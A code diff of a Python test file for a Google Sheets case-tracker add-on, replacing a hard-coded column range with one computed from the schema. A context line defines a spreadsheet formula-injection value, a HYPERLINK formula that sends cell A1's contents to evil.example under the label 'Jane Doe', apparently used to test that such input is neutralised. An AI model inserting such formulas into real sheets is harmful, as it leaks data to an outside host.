@@ -9,7 +9,7 @@ import pytest
 
 from addon.cases.lifecycle import STATUSES
 from addon.tracker import TrackerSharingError, init_tracker, load_config, open_writer, tracker_update, writer
-from addon.tracker.schema import COLUMNS, MONTHLY_COLUMNS, from_serial
+from addon.tracker.schema import COLUMNS, MONTHLY_COLUMNS, col_letter, from_serial
 
 HOSTILE = '=HYPERLINK("https://evil.example/?q="&A1,"Jane Doe")'
 
@@ -39,7 +39,7 @@ def test_init_lays_out_the_sheet_for_the_dpo(env):
 
     meta = env.google("sheets").spreadsheets().get(spreadsheetId=cfg.spreadsheet_id).execute()
     assert [s["properties"]["title"] for s in meta["sheets"]] == ["Tracker", "Monthly"]
-    tracker = grid(env, cfg.spreadsheet_id, "Tracker!A1:O3")
+    tracker = grid(env, cfg.spreadsheet_id, f"Tracker!A1:{col_letter(len(COLUMNS) - 1)}3")
     assert tracker["properties"]["gridProperties"]["frozenRowCount"] == 1
     (prot,) = tracker["protectedRanges"]
     assert prot["range"]["startRowIndex"] == 0 and prot["range"]["endRowIndex"] == 1
